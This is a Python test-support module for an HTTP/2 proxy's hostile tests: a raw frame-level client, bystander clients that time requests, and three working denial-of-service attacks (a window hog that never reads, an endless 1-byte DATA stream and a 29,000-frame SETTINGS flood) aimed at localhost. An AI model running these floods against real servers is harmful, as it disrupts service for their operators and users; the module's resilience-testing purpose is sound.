"""A hostile HTTP/2 client for the attack tests: frames as written, no state machine.

`RawH2.connect(port)` sends the preface and a SETTINGS frame (with the
settings given), then lets a test write any frame sequence (`frame()`,
`headers()` with its own HPACK encoder) and reads everything the server
sends: frames counted by type, the GOAWAY error code, RST_STREAM codes per
stream, `closed` once the server closes. `Steady` is the other client, the
one that must keep succeeding while the attack runs. Every wait has a timeout.

The attacks of issue 31 as coroutines that run until a deadline (the hostile
tests run them in their own process, `python -m bench.attacks attack`, so
that their cost is not the bystander's): `open_window_hog` (a huge window,
large bodies asked for, nothing read), `tiny_data` (1-byte DATA frames on a
POST stream, reconnecting when cut off) and `settings_flood` (29,000 SETTINGS
frames in one write, reconnecting). `Bystander` times a well-behaved client's
requests meanwhile: success rate, p50, p99.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
import time
from typing import Any

import hpack
from hyperframe.frame import Frame, HeadersFrame, SettingsFrame

from tests.support.h2client import H2Client

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame type numbers (RFC 9113 section 6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    7,
    8,
    9,
)


def raw_frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One frame from its parts (for what hyperframe refuses to build)."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream_id & 0x7FFFFFFF)
        + payload
    )


class RawH2:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.encoder = hpack.Encoder()
        self.frames: dict[int, int] = {}
        self.goaway: int | None = None  # the GOAWAY's error code
        self.goaway_last_stream: int | None = None
        self.resets: dict[int, int] = {}
        self.headers_on: set[int] = set()  # streams the server answered
        self.statuses: dict[int, int] = {}  # each answered stream's :status
        self.decoder = hpack.Decoder()
        self.closed = asyncio.Event()
        self._task: asyncio.Task[None] | None = None

    @classmethod
    async def connect(cls, port: int, settings: dict[int, int] | None = None) -> RawH2:
        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 10)
        client = cls(reader, writer)
        frame = SettingsFrame(0, settings=settings or {})
        writer.write(PREFACE + frame.serialize())
        client._task = asyncio.get_running_loop().create_task(client._read())
        return client

    def block(self, fields: list[tuple[bytes, bytes]]) -> bytes:
        return bytes(self.encoder.encode(fields))

    def headers(
        self,
        stream_id: int,
        fields: list[tuple[bytes, bytes]],
        *,
        end_stream: bool = True,
        end_headers: bool = True,
    ) -> bytes:
        frame = HeadersFrame(stream_id, data=self.block(fields))
        if end_stream:
            frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return bytes(frame.serialize())

    @staticmethod
    def request(authority: bytes, path: bytes = b"/", method: bytes = b"GET") -> list:
        return [
            (b":method", method),
            (b":scheme", b"http"),
            (b":authority", authority),
            (b":path", path),
        ]

    def send(self, *frames: bytes) -> None:
        if not self.writer.is_closing():
            self.writer.write(b"".join(frames))

    async def drain(self) -> None:
        with contextlib.suppress(ConnectionError, OSError):
            await asyncio.wait_for(self.writer.drain(), 10)

    async def flood(self, data: bytes, times: int, batch: int = 200) -> int:
        """Send `data` `times` times (in batches, until the server closes); returns
        how many were written."""
        sent = 0
        while sent < times and not self.closed.is_set() and not self.writer.is_closing():
            count = min(batch, times - sent)
            self.writer.write(data * count)
            sent += count
            try:
                await asyncio.wait_for(self.writer.drain(), 10)
            except (ConnectionError, OSError, TimeoutError):
                break
        return sent

    async def wait_closed(self, timeout: float = 10.0) -> None:
        await asyncio.wait_for(self.closed.wait(), timeout)

    async def _read(self) -> None:
        buf = b""
        try:
            while True:
                data = await self.reader.read(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind = buf[3]
                    buf_flags = buf[4]
                    stream_id = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9 : 9 + length]
                    buf = buf[9 + length :]
                    self.frames[kind] = self.frames.get(kind, 0) + 1
                    if kind == GOAWAY:
                        self.goaway_last_stream = int.from_bytes(payload[:4], "big")
                        self.goaway = int.from_bytes(payload[4:8], "big")
                    elif kind == RST_STREAM:
                        self.resets[stream_id] = int.from_bytes(payload[:4], "big")
                    elif kind == HEADERS:
                        self.headers_on.add(stream_id)
                        self._status(stream_id, buf_flags, payload)
        except (ConnectionError, OSError):
            pass
        finally:
            self.closed.set()

    def _status(self, stream_id: int, flags: int, payload: bytes) -> None:
        """The :status of a response's HEADERS (its block in one frame, as the proxy sends)."""
        if flags & 0x8:  # PADDED
            payload = payload[1 : len(payload) - payload[0]]
        if flags & 0x20:  # PRIORITY
            payload = payload[5:]
        for name, value in self.decoder.decode(payload, raw=True):
            if name == b":status":
                self.statuses[stream_id] = int(value)

    async def close(self) -> None:
        if self._task is not None:
            self._task.cancel()
            with contextlib.suppress(asyncio.CancelledError, Exception):
                await self._task
        self.writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(self.writer.wait_closed(), 2)


class Steady:
    """A well-behaved HTTP/2 client requesting in a loop while an attack runs."""

    def __init__(self, port: int, authority: str) -> None:
        self.port = port
        self.authority = authority
        self.ok = 0
        self.failures: list[Any] = []
        self._stop = asyncio.Event()
        self._task: asyncio.Task[None] | None = None

    async def __aenter__(self) -> Steady:
        self._task = asyncio.get_running_loop().create_task(self._run())
        return self

    async def _run(self) -> None:
        client = await H2Client.connect(self.port)
        try:
            while not self._stop.is_set():
                response = await client.request("GET", "/steady", self.authority, timeout=10)
                if response.status == 200:
                    self.ok += 1
                else:
                    self.failures.append(response)
                await asyncio.sleep(0.005)
        finally:
            await client.close()

    async def __aexit__(self, *exc: object) -> None:
        # At least one more answer after the attack, then stop.
        before = self.ok
        deadline = asyncio.get_running_loop().time() + 10
        while self.ok <= before and asyncio.get_running_loop().time() < deadline:
            if self._task is not None and self._task.done():
                break
            await asyncio.sleep(0.01)
        self._stop.set()
        if self._task is not None:
            await asyncio.wait_for(self._task, 15)
        assert self.ok > before, "the steady client got no answer after the attack"
        assert not self.failures, self.failures[:3]


def frame_bytes(frame: Frame) -> bytes:
    return bytes(frame.serialize())


# ---------------------------------------------------------------- issue 31's attacks

WINDOW_MAX = 2**31 - 1


async def _raw_connection(
    port: int, *, receive_buffer: int = 0
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A TCP connection to the proxy; `receive_buffer`: a small SO_RCVBUF, so that
    a client that does not read backs the proxy's socket up at once."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.setblocking(False)
    await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port)), 10)
    return await asyncio.open_connection(sock=sock, limit=1024)


async def open_window_hog(
    port: int, authority: bytes, path: bytes, deadline: float, streams: int = 100
) -> dict[str, int]:
    """Issue 31, finding 2: advertise the largest window, ask for `streams` large
    bodies, never read. Held open until the deadline (loop time)."""
    _, writer = await _raw_connection(port, receive_buffer=4096)
    encoder = hpack.Encoder()
    frames = [
        PREFACE,
        SettingsFrame(0, settings={4: WINDOW_MAX}).serialize(),  # INITIAL_WINDOW_SIZE
        raw_frame(WINDOW_UPDATE, 0, 0, (WINDOW_MAX - 65535).to_bytes(4, "big")),
    ]
    for index in range(streams):
        frame = HeadersFrame(
            2 * index + 1,
            data=encoder.encode(RawH2.request(authority, path)),
        )
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        frames.append(frame.serialize())
    writer.write(b"".join(frames))
    loop = asyncio.get_running_loop()
    with contextlib.suppress(ConnectionError, OSError):
        while loop.time() < deadline and not writer.is_closing():
            await asyncio.sleep(0.2)
    writer.transport.abort()
    return {"connections": 1, "streams": streams}


async def tiny_data(port: int, authority: bytes, deadline: float) -> dict[str, int]:
    """Issue 31, finding 3: a POST stream, then 1-byte DATA frames without end
    (the proxy answers the POST at once: most arrive after its answer). Cut
    off, it reconnects until the deadline."""
    loop = asyncio.get_running_loop()
    sent = connections = 0
    frame = raw_frame(DATA, 0, 1, b"x")
    batch = frame * 2000
    while loop.time() < deadline:
        try:
            reader, writer = await _raw_connection(port)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.05)
            continue
        connections += 1
        encoder = hpack.Encoder()
        head = HeadersFrame(
            1,
            data=encoder.encode(RawH2.request(authority, b"/sink", b"POST")),
        )
        head.flags.add("END_HEADERS")
        writer.write(PREFACE + SettingsFrame(0).serialize() + head.serialize())
        drainer = loop.create_task(_discard(reader))
        try:
            while loop.time() < deadline and not drainer.done():
                writer.write(batch)
                sent += 2000
                await asyncio.wait_for(writer.drain(), 5)
        except (ConnectionError, OSError, TimeoutError):
            pass
        drainer.cancel()
        writer.transport.abort()
    return {"connections": connections, "frames": sent}


async def settings_flood(port: int, deadline: float, frames: int = 29_000) -> dict[str, int]:
    """Issue 31, finding 4: a read's worth of SETTINGS frames, again on a new
    connection each time the proxy ends one, until the deadline."""
    loop = asyncio.get_running_loop()
    flood = SettingsFrame(0).serialize() * frames
    sent = connections = 0
    while loop.time() < deadline:
        try:
            reader, writer = await _raw_connection(port)
            # Once the proxy has set the connection up (its SETTINGS came), the
            # flood arrives whole: one read of the proxy's holds most of it.
            writer.write(PREFACE + SettingsFrame(0).serialize())
            await asyncio.wait_for(reader.read(1), 5)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.05)
            continue
        connections += 1
        writer.write(flood)
        sent += frames
        with contextlib.suppress(ConnectionError, OSError, TimeoutError):
            await asyncio.wait_for(_discard(reader), max(0.1, deadline - loop.time()))
        writer.transport.abort()
    return {"connections": connections, "frames": sent}


async def _discard(reader: asyncio.StreamReader) -> None:
    """Read and drop what the proxy sends, until it closes."""
    with contextlib.suppress(ConnectionError, OSError):
        while await reader.read(65536):
            pass


class Bystander:
    """A well-behaved HTTP/2 client timing its requests while an attack runs: one
    request at a time on one connection (a new one after a failure), each allowed
    `timeout` seconds; a failure counts as an attempt that took its time."""

    def __init__(self, port: int, authority: str, path: str = "/small", timeout: float = 5.0):
        self.port = port
        self.authority = authority
        self.path = path
        self.timeout = timeout
        self.latencies: list[float] = []
        self.ok = 0
        self.failures: list[str] = []

    async def run(self, seconds: float) -> Bystander:
        loop = asyncio.get_running_loop()
        end = loop.time() + seconds
        client: H2Client | None = None
        try:
            while loop.time() < end:
                started = time.perf_counter()
                try:
                    if client is None or client.closed.is_set():
                        if client is not None:
                            await client.close()
                        client = await H2Client.connect(self.port)
                    response = await client.request(
                        "GET", self.path, self.authority, timeout=self.timeout
                    )
                    failure = None if response.status == 200 else f"status {response.status}"
                except (OSError, TimeoutError) as exc:
                    failure = type(exc).__name__
                    if client is not None:
                        await client.close()
                        client = None
                self.latencies.append(time.perf_counter() - started)
                if failure is None:
                    self.ok += 1
                else:
                    self.failures.append(failure)
                await asyncio.sleep(0.01)
        finally:
            if client is not None:
                await client.close()
        return self

    @property
    def attempts(self) -> int:
        return len(self.latencies)

    @property
    def success(self) -> float:
        return self.ok / self.attempts if self.attempts else 0.0

    def quantile(self, q: float) -> float:
        ordered = sorted(self.latencies)
        if not ordered:
            return float("inf")
        return ordered[min(len(ordered) - 1, int(q * len(ordered)))]

    def report(self) -> dict[str, Any]:
        return {
            "attempts": self.attempts,
            "success": round(self.success, 4),
            "p50_ms": round(self.quantile(0.5) * 1000, 1),
            "p99_ms": round(self.quantile(0.99) * 1000, 1),
            "failures": self.failures[:5],
        }
